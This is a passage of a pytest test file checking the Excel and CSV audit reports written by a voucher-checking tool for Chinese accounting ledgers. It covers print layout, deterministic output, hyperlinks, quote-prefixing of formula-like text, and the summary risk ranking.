    assert ws.page_margins.left == ws.page_margins.right == 0.25
    return min(1.0, PRINTABLE_PX / sum(_column_px(ws, letter) for letter in columns))


@pytest.mark.parametrize("title", ["问题清单", "凭证明细"])
def test_printed_body_text_is_at_least_9_points(wb, title):
    ws = wb[title]
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9
    assert ws.sheet_properties.pageSetUpPr.fitToPage and int(ws.page_setup.fitToHeight) == 0
    if title == "问题清单":
        assert ws.print_area == f"'问题清单'!$A$1:$O${ws.max_row}"     # up to 备注; 期间 and 来源 on screen only
        assert ws["O1"].value == "备注"
        printed = [openpyxl.utils.get_column_letter(c) for c in range(1, 16)]
    else:
        assert not ws.print_area
        printed = [openpyxl.utils.get_column_letter(c) for c in range(1, ws.max_column + 1)]
    scale = _printed_scale(ws, printed)
    body = ws.cell(row=2, column=2).font
    assert body.sz * scale >= 9, f"{title}: body text {body.sz * scale:.1f} pt on paper"
    assert float(ws.oddHeader.center.size) * scale > body.sz * scale, "the page heading is larger"
    if title == "问题清单":
        paper_cm = {h: _column_px(ws, openpyxl.utils.get_column_letter(_column(ws, h))) * scale * CM_PER_PX
                    for h in REVIEW_HEADERS}
        assert paper_cm["整改措施"] >= 4.0
        assert paper_cm["核实结论"] >= 1.5 and paper_cm["责任人"] >= 1.5


@pytest.mark.parametrize("title", ["汇总", "问题清单", "凭证明细", "数据问题", "规则说明"])
def test_no_row_reaches_excels_height_limit(wb, title):
    heights = [d.height for d in wb[title].row_dimensions.values() if d.height]
    assert all(h < 409 for h in heights)


def test_wrapped_rows_are_tall_enough_for_their_text(wb):
    from voucher_checker.report.common import line_count
    ws = wb["问题清单"]
    col = _column(ws, "问题说明及依据")
    width = ws.column_dimensions[openpyxl.utils.get_column_letter(col)].width
    for r in range(2, ws.max_row + 1):
        text = ws.cell(row=r, column=col).value
        height = ws.row_dimensions[r].height or 15
        assert height >= 15 * line_count(text, width - 0.7), (r, text)


# ---------------------------------------------------------------------------- files

def test_same_scan_gives_same_bytes(scan, tmp_path):
    write_report(scan, tmp_path / "a.xlsx")
    write_report(scan, tmp_path / "b.xlsx")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    props = openpyxl.load_workbook(tmp_path / "a.xlsx").properties
    assert props.created == STARTED and props.modified == STARTED


def test_workbook_xml_is_well_formed(report):
    from xml.etree import ElementTree
    with zipfile.ZipFile(report) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            if name.endswith(".xml") or name.endswith(".rels"):
                ElementTree.fromstring(archive.read(name))
        workbook_xml = archive.read("xl/workbook.xml").decode("utf-8")
    names = [part.split('"')[0] for part in workbook_xml.split('definedName name="')[1:]]
    local_ids = [part.split('localSheetId="')[1].split('"')[0] if 'localSheetId="' in part.split(">")[0] else ""
                 for part in workbook_xml.split("<definedName ")[1:]]
    assert len(set(zip(names, local_ids))) == len(names)


def test_report_module_imports_no_private_name():
    import ast
    from pathlib import Path
    import voucher_checker.report
    for path in Path(voucher_checker.report.__file__).parent.glob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.level == 0:
                names = node.module.split(".") + [alias.name for alias in node.names]
                assert not any(n.startswith("_") and not n.startswith("__") for n in names), (path.name, node.module)
            elif isinstance(node, ast.Import):
                assert not any(p.startswith("_") for a in node.names for p in a.name.split(".")), path.name
            elif isinstance(node, ast.Attribute) and node.attr.startswith("_") and not node.attr.startswith("__"):
                owner = node.value
                assert isinstance(owner, ast.Name) and owner.id in ("self", "cls"), (path.name, node.attr)
        assert "openpyxl" not in path.read_text(encoding="utf-8"), path.name


def test_csv_has_bom_and_the_finding_rows(scan, tmp_path):
    path = tmp_path / "问题清单.csv"
    write_findings_csv(scan, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == [*FINDING_HEADERS, "识别码"]
    assert len(rows) == len(scan.findings) + 1
    # The identity the report's 识别码 and the JSON's finding_id carry, in the engine's order.
    assert [r[14] for r in rows[1:]] == scan.findings["finding_id"].tolist()
    assert all(len(r[14]) >= 8 for r in rows[1:])
    by_voucher = {(r[1], r[4], r[9]): r for r in rows[1:]}
    six = by_voucher[("建设社区", "记-6", "超限额提取备用金")]
    assert six[5] == "2021-03-06" and six[8] == "2500.50" and six[10] == "高"
    assert six[13] == "建设社区/行政账2021.xlsx / 3月 / 第9–10行"
    nine = [r for r in rows[1:] if r[4] == "记-9"]
    assert {r[6] for r in nine} == {"'" + INJECTION}


def test_csv_without_findings_has_only_the_header(tmp_path):
    scan = _scan(findings=empty_findings())
    write_findings_csv(scan, tmp_path / "f.csv")
    assert (tmp_path / "f.csv").read_text(encoding="utf-8-sig").splitlines() == [",".join((*FINDING_HEADERS, "识别码"))]


def test_hand_built_findings_frame(tmp_path):
    """A findings frame built directly with FINDING_COLUMNS, as other writers' tests do."""
    ledger = ledger_from_rows(LEDGER_ROWS[:2])
    key = ledger["voucher_key"].iloc[0]
    findings = pd.DataFrame([{
        "rule": "petty-cash-over-limit", "title": "超限额提取备用金", "severity": "high", "entity": "建设社区",
        "book": "admin", "file": ADMIN_FILE, "sheet": "3月", "rows": [9, 10], "period": "2021-03",
        "voucher": "记-6", "voucher_word": "记", "voucher_no": 6, "voucher_key": key,
        "date": pd.Timestamp("2021-03-06"), "amount_fen": 250050, "message": "超限额", "summary": "提取备用金",
        "account": "1001 库存现金", "basis": "依据", "line_id": 0}], columns=list(FINDING_COLUMNS))
    scan = _scan(read=ReadResult(ledger, _sheets()[:1], [], pd.DataFrame()), findings=findings, rule_gaps=[])
    write_report(scan, tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["问题清单"]
    assert ws.cell(row=2, column=_column(ws, "金额")).value == pytest.approx(2500.50)
    assert ws.cell(row=2, column=_column(ws, "凭证号")).hyperlink.location == "'凭证明细'!A3"


def test_unit_findings_name_the_unit_or_sheet_and_link_to_no_voucher(tmp_path):
    from voucher_checker.rules._common import findings as voucher_findings, unit_findings

    def check(ledger, options):
        return pd.concat([unit_findings([0], 0, "金额分布不符合本福特定律"),
                          unit_findings([0], 0, "本表 3 张凭证均无审核人签章", file=ADMIN_FILE, sheet="3月"),
                          voucher_findings([ledger["voucher_key"].iloc[0]], [0], 250050, "超限额")], ignore_index=True)
    rule = Rule(id="unit-rule", title="单位整体问题", title_en="Unit", severity="low", basis="测试", requires=(),
                defaults={}, options_help={}, check=check, options={})
    ledger = ledger_from_rows(LEDGER_ROWS[:2])
    found, _ = run_rules(ledger, _sheets()[:1], [rule], Policy())
    scan = _scan(read=ReadResult(ledger, _sheets()[:1], [], pd.DataFrame()), findings=found, rule_gaps=[],
                 rules=[rule])
    write_report(scan, tmp_path / "r.xlsx")
    write_findings_csv(scan, tmp_path / "f.csv")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    ws = wb["问题清单"]
    cells = {ws.cell(row=r, column=_column(ws, "凭证号")).value: r for r in range(2, ws.max_row + 1)}
    assert set(cells) == {"单位整体", "整表", "记-6"}
    for voucher in ("单位整体", "整表"):
        assert ws.cell(row=cells[voucher], column=_column(ws, "凭证号")).hyperlink is None
        assert ws.cell(row=cells[voucher], column=_column(ws, "单位")).value == "建设社区"
        assert ws.cell(row=cells[voucher], column=_column(ws, "金额")).value is None
    assert ws.cell(row=cells["整表"], column=_column(ws, "来源")).value == f"{ADMIN_FILE} / 3月"
    assert ws.cell(row=cells["记-6"], column=_column(ws, "凭证号")).hyperlink is not None
    detail = wb["凭证明细"]
    lines = [row for row in detail.iter_rows(min_row=3, values_only=True) if row[2] is not None]
    assert [(row[0], row[2]) for row in lines] == [("记-6", 9), ("记-6", 10)], "a unit finding adds no lines"
    assert "单位整体" in (tmp_path / "f.csv").read_text(encoding="utf-8-sig")


def test_empty_scan_still_writes_every_sheet(tmp_path):
    scan = _scan(read=ReadResult(empty_ledger(), [], [], pd.DataFrame()), findings=empty_findings(),
                 rule_gaps=[], rules=[], inputs=[])
    write_report(scan, tmp_path / "empty.xlsx")
    write_findings_csv(scan, tmp_path / "empty.csv")
    wb = openpyxl.load_workbook(tmp_path / "empty.xlsx")
    assert wb.sheetnames == ["汇总", "问题清单", "凭证明细", "数据问题", "规则说明"]


def test_links_beyond_excels_limit_are_formulas(scan, tmp_path, monkeypatch):
    from voucher_checker.report import common
    monkeypatch.setattr(common, "MAX_SHEET_LINKS", 1)
    write_report(scan, tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["问题清单"]
    col = _column(ws, "凭证号")
    assert ws.cell(row=2, column=col).hyperlink is not None
    formula = ws.cell(row=3, column=col).value
    assert formula.startswith("=HYPERLINK(\"#'凭证明细'!A") and formula.endswith('","记-6")') or \
        formula.startswith("=HYPERLINK(")


# ---------------------------------------------------------------------------- odd text

ODD_TEXT = ["  前后有空格  ", "a & b < c > d", "第一行\n第二行", "\u3000全角空格", "#N/A", "-5", "@x", "tab\tin",
            "🙂宽字符", "ｆｕｌｌ", "x" * 40000]


def _odd_scan() -> ScanResult:
    """Text that exercises escaping, spaces at the ends, quote prefixes, wrapping and the length limit."""
    rows = list(LEDGER_ROWS)
    for i, text in enumerate(ODD_TEXT):
        voucher = f"记-{100 + i}"
        rows += [_line("奇怪&社区", "odd/<文件>.xlsx", "表 1", 20 + 2 * i, voucher, "2021-05-03", text, "1001 库存现金",
                       str(2500 + i), ""),
                 _line("奇怪&社区", "odd/<文件>.xlsx", "表 1", 21 + 2 * i, voucher, "2021-05-03", text[::-1],
                       "1002 银行存款", "", str(2500 + i))]
    ledger = ledger_from_rows(rows)
    sheets = _sheets() + [SheetInfo("odd/<文件>.xlsx", "表 1", "奇怪&社区", "admin", header_rows=(1,), fields=FIELDS,
                                    lines=2 * len(ODD_TEXT), data_rows=2 * len(ODD_TEXT), periods=["2021-05"])]
    findings, gaps = run_rules(ledger, sheets, _rules(), Policy())
    return _scan(read=ReadResult(ledger, sheets, [], pd.DataFrame()), findings=findings, rule_gaps=gaps)


def test_odd_text_is_kept_exactly(tmp_path):
    scan = _odd_scan()
    write_report(scan, tmp_path / "odd.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "odd.xlsx")
    detail = wb["凭证明细"]
    summaries = {c.value: c for c in detail["D"]}
    assert set(ODD_TEXT[:-1]) <= set(summaries) and "x" * 32767 in summaries    # cut at Excel's limit
    assert all(summaries[text].quotePrefix for text in ("#N/A", "-5", "@x"))
    assert not summaries["a & b < c > d"].quotePrefix
    assert summaries["第一行\n第二行"].alignment.wrap_text
    assert any(isinstance(v, str) and v.startswith("奇怪&社区") for v in (c.value for c in detail["A"]))
    assert wb["问题清单"].oddFooter.left.text == "多个单位"


def test_detail_lines_are_found_by_line_and_voucher_id():
    """The flagged vouchers' lines are looked up without scanning the ledger's text; the result is
    the same as selecting by voucher_key, also for findings that do not match the ledger."""
    from voucher_checker.report.detail import voucher_line_positions

    scan = _odd_scan()
    ledger, findings = scan.ledger, scan.findings
    keys = list(dict.fromkeys(findings["voucher_key"]))

    def by_key(frame, wanted):
        return frame[frame["voucher_key"].isin(wanted)].sort_values(["file", "sheet", "row", "line_id"],
                                                                     kind="stable")

    def found(frame, found_findings, wanted):
        return frame.take(voucher_line_positions(frame, found_findings, wanted))
    pd.testing.assert_frame_equal(found(ledger, findings, keys), by_key(ledger, keys))
    odd = findings.copy()
    odd.loc[0, "line_id"] = 10_000                       # not a line of the ledger
    odd.loc[1, "line_id"] = int(ledger["line_id"].iloc[-1])   # a line of another voucher
    pd.testing.assert_frame_equal(found(ledger, odd, keys + ["无此凭证"]), by_key(ledger, keys))
    without_ids = ledger.drop(columns="voucher_id")
    pd.testing.assert_frame_equal(found(without_ids, findings, keys), by_key(without_ids, keys))


def test_writing_leaves_the_garbage_collector_as_it_was(scan, tmp_path):
    import gc
    assert gc.isenabled()
    write_report(scan, tmp_path / "r.xlsx")
    assert gc.isenabled()
    gc.disable()
    try:
        write_report(scan, tmp_path / "r.xlsx")
        assert not gc.isenabled()
    finally:
        gc.enable()


def test_summary_ranks_units_by_risk_score_with_their_highest_vouchers(wb):
    ws = wb["汇总"]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    start = next(i for i, row in enumerate(rows) if str(row[0] or "").startswith("二、单位风险排名"))
    header, first = rows[start + 1], rows[start + 2]
    assert header[:4] == ["名次", "单位", "风险最高的凭证（风险分：所触发的规则及权重）", "风险分"]
    assert first[0] == 1 and first[1]
    assert "分：" in first[2]
    # A number an auditor can sort and sum, shown with two decimals and thousands separators.
    score_cell = ws.cell(row=start + 3, column=4)
    assert isinstance(score_cell.value, float) and score_cell.value > 0
    assert score_cell.number_format == "#,##0.00"


def test_a_rule_that_ran_in_part_says_why_once_per_file(tmp_path):
    from voucher_checker.model import RuleGap
    gaps = [RuleGap("holiday-posting", ADMIN_FILE, sheet, (), "2090 年不在节假日日历范围内：只按周六、周日检查")
            for sheet in ("1月", "2月")]
    scan = _scan(rule_gaps=gaps)
    write_report(scan, tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    rows = [r for r in wb["数据问题"].iter_rows(values_only=True) if r[0] == "规则部分运行"]
    assert len(rows) == 1 and rows[0][1] == ADMIN_FILE and rows[0][2] == "1月、2月"
    assert "只按周六、周日检查" in rows[0][6]
    header, listed = _summary_table(wb["汇总"], "规则未运行或只部分运行")
    assert [r[4] for r in listed] == ["2090 年不在节假日日历范围内：只按周六、周日检查"] * 2
